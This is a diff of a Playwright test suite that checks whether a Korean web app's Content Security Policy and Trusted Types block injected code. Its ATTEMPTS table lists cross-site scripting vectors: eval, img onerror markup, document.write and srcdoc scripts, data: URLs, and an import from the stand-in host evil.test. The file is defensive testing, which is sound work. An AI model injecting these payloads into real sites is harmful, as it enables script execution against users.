@@ -17,9 +17,10 @@ async function builds(page: Page): Promise<Build[]> {
   return set.remotes.map(({ current }) => current);
 }
 
-/** Hears of everything that the policy of any page of the context refuses. */
+/** Hears of everything that the policy of any page of the context refuses; some of it is said on the console alone. */
 async function hearViolations(page: Page): Promise<string[]> {
   const heard: string[] = [];
+  page.on('console', (message) => message.type() === 'error' && heard.push(message.text()));
   await page.context().exposeFunction('tellViolation', (words: string) => heard.push(words));
   await page.context().addInitScript(() => {
     const view = globalThis as unknown as { tellViolation(words: string): void };
@@ -71,11 +72,13 @@ test('a walk through the screens meets nothing that the policy refuses', async (
     { path: '/accounts/banner', heading: '배너' },
     { path: '/accounts/download/sales', heading: '매출 파일 내려받기' },
     { path: '/accounts/preview', heading: '출시 예정 소식' },
-    { path: '/nowhere', heading: /찾을 수 없/ },
   ]) {
     await page.goto(path);
     await expect(page.getByRole('heading', { name: heading, level: 1 })).toBeVisible();
   }
+  await page.goto('/profile');
+  await page.getByRole('button', { name: '색 고르기' }).first().click();
+  await expect(page.getByRole('slider', { name: '색상' }).first()).toBeVisible();
   await page.goto('/');
   await page.getByRole('link', { name: '봄 소풍 스티커 마켓' }).click();
   await expect(page.getByRole('textbox', { name: '마켓 이름' })).toBeVisible();
@@ -96,11 +99,11 @@ test('the browser holds the page to Trusted Types, by the one policy of ours', a
 });
 
 test.describe('code from elsewhere', () => {
-  test.use({ allowedErrors: /Content Security Policy|TrustedHTML|TrustedScript|Trusted Type|ERR_BLOCKED/ });
+  test.use({ allowedErrors: /Content Security Policy|Trusted|ERR_BLOCKED/ });
 
   // Each tries to set `ran`. In a task of its own, because what a debugger evaluates itself is not held to the policy.
   const ATTEMPTS: Record<string, string> = {
-    'eval': `eval('ran = 1')`,
+    eval: `eval('ran = 1')`,
     'a function made of text': `new Function('ran = 1')()`,
     'a timer with text': `setTimeout('ran = 1')`,
     'a script with text': `add('script').text = 'ran = 1'`,
@@ -111,7 +114,7 @@ test.describe('code from elsewhere', () => {
     'a script of another port of this machine': `add('script').src = 'http://localhost:9/x.js'`,
     'a script in its address': `add('script').src = 'data:text/javascript,ran=1'`,
     'a module of another origin': `import('http://evil.test/x.js').catch(() => {})`,
-    'markup': `add('div').innerHTML = '<img src="/none.png" onerror="ran = 1">'`,
+    markup: `add('div').innerHTML = '<img src="/none.png" onerror="ran = 1">'`,
     'markup beside': `document.body.insertAdjacentHTML('beforeend', '<img src="/none.png" onerror="ran = 1">')`,
     'markup written': `document.write('<script>ran = 1</' + 'script>')`,
     'a frame with markup': `add('iframe').srcdoc = '<script>parent.ran = 1</' + 'script>'`,
@@ -125,7 +128,11 @@ test.describe('code from elsewhere', () => {
   test('does not run, and the browser reports each attempt', async ({ page }) => {
     const violations = await hearViolations(page);
     await page.route('http://evil.test/**', (route) =>
-      route.fulfill({ contentType: 'text/javascript', headers: { 'Access-Control-Allow-Origin': '*' }, body: 'ran = 1' }),
+      route.fulfill({
+        contentType: 'text/javascript',
+        headers: { 'Access-Control-Allow-Origin': '*' },
+        body: 'ran = 1',
+      }),
     );
     await page.route(`${origins.cdn}/uploads/x.js`, (route) =>
       route.fulfill({ contentType: 'text/javascript', body: 'ran = 1' }),
@@ -134,14 +141,11 @@ test.describe('code from elsewhere', () => {
       violations.length = 0;
       await page.goto('/login');
       await expect(page.getByRole('button', { name: '카카오톡으로 로그인' })).toBeVisible();
-      await page.evaluate(
-        ([text, cdn]) => {
-          const run = new Function('cdn', 'add', text) as (cdn: string, add: (name: string) => Element) => void;
-          const add = (name: string) => document.body.appendChild(document.createElement(name));
-          setTimeout(() => run(cdn, add));
-        },
-        [code, origins.cdn] as const,
-      );
+      await page.evaluate(`setTimeout(() => {
+        const cdn = '${origins.cdn}';
+        const add = (name) => document.body.appendChild(document.createElement(name));
+        ${code}
+      })`);
       await expect.poll(() => violations, attempt).not.toEqual([]);
       expect([attempt, await page.evaluate(() => 'ran' in globalThis)]).toEqual([attempt, false]);
     }
@@ -159,7 +163,10 @@ test.describe('code from elsewhere', () => {
   test('that is text in a file of orders is parsed and not run', async ({ page }) => {
     await page.goto('/login');
     const rows = await page.evaluate(() => {
-      const parsed = new DOMParser().parseFromString('<table><tr><td><img src=x onerror="ran=1">1</table>', 'text/html');
+      const parsed = new DOMParser().parseFromString(
+        '<table><tr><td><img src=x onerror="ran=1">1</table>',
+        'text/html',
+      );
       return parsed.querySelectorAll('tr').length;
     });
     expect(rows).toBe(1);
